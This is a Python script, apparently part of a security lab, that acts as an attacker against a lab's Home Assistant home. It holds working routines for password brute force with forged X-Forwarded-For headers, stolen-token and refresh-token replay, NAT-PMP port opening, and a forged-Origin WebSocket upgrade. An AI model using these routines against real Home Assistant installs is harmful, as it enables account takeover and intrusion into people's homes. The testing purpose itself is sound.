# SPDX-License-Identifier: GPL-3.0-or-later
"""What an attacker runs: one attempt against the lab's home, from inside one of the lab's hosts.

The file is fed to `python3 -` in the actor's container, so it needs nothing but the standard library.
Input: one JSON object as the only argument. Output: one JSON line {"succeeded": bool, "how": str}.
"""

from __future__ import annotations

import base64
import hashlib
import http.client
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import time

# Seconds until a place counts as closed, and those that an open one may take to answer on a slow machine.
TIMEOUT, PATIENCE = 4, 30
CLIENT = "https://attacker.invalid/"


class Door:
    """One address at which Home Assistant might answer, reached from one source address."""

    def __init__(self, url, name="", source=None):
        scheme, rest = url.split("://", 1)
        self.host, port = rest.rsplit(":", 1)
        self.host = self.host.strip("[]")
        self.port, self.tls, self.url = int(port), scheme == "https", url
        self.name = name or self.host
        self.source = (source[":" in self.host], 0) if source else None

    def connect(self):
        """Return an HTTP connection; the TLS name is the home's even where the address is bare."""
        raw = socket.create_connection((self.host, self.port), TIMEOUT, source_address=self.source)
        raw.settimeout(PATIENCE)
        if self.tls:
            context = ssl._create_unverified_context()  # an attacker does not mind the certificate
            raw = context.wrap_socket(raw, server_hostname=self.name)
        connection = http.client.HTTPConnection(self.name, self.port, timeout=PATIENCE)
        connection.sock = raw
        return connection

    def ask(self, method, path, body=None, form=None, headers=None):
        """Return (status, parsed answer); status 0 when nothing answered."""
        headers = dict(headers or {}, Host=self.name)
        payload = None
        if form is not None:
            payload = "&".join(f"{key}={value}" for key, value in form.items())
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        elif body is not None:
            payload = json.dumps(body)
            headers["Content-Type"] = "application/json"
        try:
            connection = self.connect()
            connection.request(method, path, payload, headers)
            answer = connection.getresponse()
            text = answer.read().decode("utf-8", "replace")
            connection.close()
        except (OSError, http.client.HTTPException):
            return 0, None
        try:
            return answer.status, json.loads(text)
        except ValueError:
            return answer.status, text

    def is_home_assistant(self):
        """Whether the login of Home Assistant itself is offered here."""
        status, answer = self.ask("GET", "/auth/providers")
        return status == 200 and "homeassistant" in json.dumps(answer)

    def log_in(self, username, password, headers=None, code=None):
        """Return (outcome, token): outcome is in | code_asked | wrong | refused; the code only where it is known."""
        start = {"client_id": CLIENT, "handler": ["homeassistant", None], "redirect_uri": CLIENT}
        status, flow = self.ask("POST", "/auth/login_flow", start, headers=headers)
        if status != 200:
            return f"refused ({status})", None
        answer = {"client_id": CLIENT, "username": username, "password": password}
        status, step = self.ask("POST", f"/auth/login_flow/{flow['flow_id']}", answer, headers=headers)
        if code and status == 200 and isinstance(step, dict) and step.get("step_id") == "mfa":
            second = {"client_id": CLIENT, "code": code}
            status, step = self.ask("POST", f"/auth/login_flow/{flow['flow_id']}", second, headers=headers)
        if status != 200 or not isinstance(step, dict):
            return f"refused ({status})", None
        if step.get("type") == "create_entry":
            grant = {"client_id": CLIENT, "grant_type": "authorization_code", "code": step["result"]}
            status, tokens = self.ask("POST", "/auth/token", form=grant)
            if status == 200:
                return "in", tokens["access_token"]
            return f"refused (no token, {status})", None
        if step.get("step_id") in ("mfa", "select_mfa_module"):
            return "code_asked", None
        return "wrong", None


def open_doors(target, source):
    """Return the doors at which Home Assistant's login is offered."""
    doors = [Door(url, target["name"], source) for url in target["doors"]]
    return [door for door in doors if door.is_home_assistant()]


def reach(target, source, **_):
    """Home Assistant's login page answers at one of the given addresses."""
    found = open_doors(target, source)
    return bool(found), ", ".join(door.url for door in found) or "no answer"


def plain_http(target, source, **_):
    """A password typed at the login page crosses the internet in clear text."""
    found = [door for door in open_doors(target, source) if not door.tls]
    return bool(found), ", ".join(door.url for door in found) or "no login over plain HTTP"


def log_in(target, source, username, password, code=None, **_):
    """Log in with a known or guessed password, and a second factor only where one is given."""
    outcomes = []
    for door in open_doors(target, source):
        outcome, _token = door.log_in(username, password, code=code)
        if outcome == "in":
            return True, f"{username} logged in at {door.url}"
        outcomes.append(f"{door.url}: {outcome}")
    return False, "; ".join(outcomes) or "no door"


def token(target, source, token, **_):
    """Use a stolen long-lived access token."""
    return _with_token(target, source, lambda door: token)


def session(target, source, refresh_token, client_id, **_):
    """Turn the refresh token of a device that was lost long ago into a fresh access token."""

    def refresh(door):
        form = {"grant_type": "refresh_token", "refresh_token": refresh_token, "client_id": client_id}
        status, answer = door.ask("POST", "/auth/token", form=form)
        return answer["access_token"] if status == 200 else None

    return _with_token(target, source, refresh)


def _with_token(target, source, find):
    for door in open_doors(target, source):
        bearer = find(door)
        if bearer:
            status, _answer = door.ask("GET", "/api/config", headers={"Authorization": f"Bearer {bearer}"})
            if status == 200:
                return True, f"read the configuration at {door.url}"
    return False, "refused at every door"


def brute_force(target, source, username, guesses, forge=False, pause=0, **_):
    """Guess passwords, `pause` seconds apart; with `forge`, pretend a new client address for every guess."""
    doors = open_doors(target, source)
    if not doors:
        return False, "no door"
    for number in range(guesses):
        time.sleep(pause)
        headers = {"X-Forwarded-For": f"203.0.113.{number + 1}"} if forge else {}
        outcome, _token = doors[0].log_in(username, f"guess-{number}", headers)
        if "(400)" in outcome and forge:
            # Home Assistant refuses the header from a forwarder it does not trust; a guesser then leaves it out.
            forge = False
            outcome, _token = doors[0].log_in(username, f"guess-{number}")
        if outcome.startswith("refused"):
            return False, f"stopped after {number} guesses at {doors[0].url}: {outcome}"
    return True, f"{guesses} guesses at {doors[0].url}, none refused"


def map_port(gateway, inside, lan, target, source, **_):
    """A device inside asks the router (NAT-PMP, RFC 6886) to open a port of the internet side to itself."""
    opening, closing = (struct.pack("!BBHHHI", 0, 2, 0, inside, *port) for port in ((lan, 120), (0, 0)))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.settimeout(TIMEOUT)
        try:
            channel.sendto(opening, (gateway, 5351))
            answer, _peer = channel.recvfrom(64)
            channel.sendto(closing, (gateway, 5351))
        except OSError:
            return False, "the router does not answer NAT-PMP"
    result = struct.unpack("!H", answer[2:4])[0] if len(answer) >= 4 else 99
    return result == 0, "the router opened the port" if result == 0 else f"refused, result {result}"


def connect(address, port, **_):
    """A plain TCP connection to a place where this host has no business."""
    try:
        socket.create_connection((address, port), TIMEOUT).close()
    except OSError as error:
        return False, str(error)
    return True, f"connected to {address}:{port}"


def certificate(target, source, **_):
    """Learn the home's name from the certificate shown to a visitor who only knows the address."""
    command = ["openssl", "s_client", "-connect", target["bare"], "-noservername"]
    try:
        shown = subprocess.run(command, input=b"", capture_output=True, timeout=PATIENCE, check=False).stdout
    except (OSError, subprocess.TimeoutExpired) as error:
        return False, str(error)
    found = target["name"].encode() in shown
    return found, "the certificate names the home" if found else "no certificate shown"


def websocket(target, source, **_):
    """Open Home Assistant's WebSocket from a page of another site (forged Origin) in plain HTTP."""
    for door in open_doors(target, source):
        if door.tls:
            continue
        key = base64.b64encode(os.urandom(16)).decode()
        expected = hashlib.sha1(key.encode() + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest()
        connection = door.connect()
        headers = {
            "Upgrade": "websocket",
            "Connection": "Upgrade",
            "Sec-WebSocket-Key": key,
            "Sec-WebSocket-Version": "13",
            "Origin": "https://evil.example",
        }
        connection.request("GET", "/api/websocket", headers=headers)
        answer = connection.getresponse()
        if answer.status == 101 and answer.headers.get("Sec-WebSocket-Accept") == base64.b64encode(expected).decode():
            return True, f"upgraded at {door.url}"
    return False, "no plain-text WebSocket"


ATTEMPTS = {
    attempt.__name__: attempt
    for attempt in (reach, plain_http, log_in, token, session, brute_force, map_port, connect, certificate, websocket)
}


def main(order):
    """Carry out one order and print what came of it."""
    try:
        succeeded, how = ATTEMPTS[order["attempt"]](**order["with"])
    except (OSError, http.client.HTTPException) as error:
        succeeded, how = False, f"{type(error).__name__}: {error}"
    print(json.dumps({"succeeded": succeeded, "how": how}))


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
